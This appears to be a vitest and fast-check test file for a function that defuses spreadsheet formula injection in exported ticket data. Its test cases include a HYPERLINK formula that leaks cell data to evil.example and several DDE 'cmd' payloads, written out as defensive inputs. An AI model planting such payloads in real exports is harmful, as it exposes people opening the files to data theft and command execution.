import fc from 'fast-check';
import { expect, it } from 'vitest';
import {
  neutraliseFormula,
  restoreFormula,
} from '../../../src/tickets/results/neutralise-formula.ts';

it.each([
  '=1+1',
  '= 5 stars',
  '=HYPERLINK("http://evil.example?"&A1,"free seats")',
  ' =1',
  '\t=1',
  '\r\n+1+1',
  '＝1',
  '=-5',
  '-2+3',
  '+49-30-123',
  '-late',
  '- late and rude',
  '- said "no", twice',
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@cmd|'/C calc'!A0",
  '@SUM(1,2)',
  '@SUM (A1)',
  '＠SUM(1)',
  '@A1+B1',
  '@$B$7',
  '@+1',
  "- don't, SUM(1)",
  '+Sheet1!A1, then',
])('puts an apostrophe before %j', (cell) => expect(neutraliseFormula(cell)).toBe(`'${cell}`));

it.each([
  '-5',
  '+3.2',
  '-1,234.50',
  '-.5',
  '-1e-7',
  ' -5%',
  '+44 20 7946 0000',
  '+49 (0)30 123-45',
  '@united where is my bag?',
  '@united',
  '@united - why',
  '@united: 2 hours late!',
  "- the agent didn't help",
  '- late, rude and tired',
  '- 2 hours late',
  '-- Original message --',
  '-',
  '=====',
  '\tx',
  '\rx',
  '\nx',
  'a=b',
  '',
  '5',
  "'=1",
  'x@y',
  'late - again',
])('leaves %j alone', (cell) => expect(neutraliseFormula(cell)).toBe(cell));

it('leaves no cell that calls a function', () => {
  const name = fc.stringMatching(/^[A-Z][A-Z0-9.]{0,8}$/);
  const space = fc.constantFrom('', ' ', '\t', '\u00a0');
  const formula = fc
    .tuple(space, fc.constantFrom('=', '+', '-', '@', '＋'), space, name, fc.string())
    .map(([before, mark, after, called, others]) => `${before}${mark}${after}${called}(${others}`);
  fc.assert(fc.property(formula, (cell) => neutraliseFormula(cell) === `'${cell}`));
});

it('gives back any cell that has no apostrophe of its own', () => {
  const cell = fc.oneof(fc.string(), fc.constantFrom('=1', '@united', '-5', '- late', '\t', ''));
  fc.assert(
    fc.property(
      cell.filter((text) => !text.startsWith("'")),
      (text) => restoreFormula(neutraliseFormula(text)) === text,
    ),
  );
  expect(restoreFormula("'tis late")).toBe("'tis late");
});

it('gives back what earlier versions put an apostrophe before', () => {
  for (const cell of ['@united', '- 2 hours late', '\tx'])
    expect(restoreFormula(`'${cell}`)).toBe(cell);
});
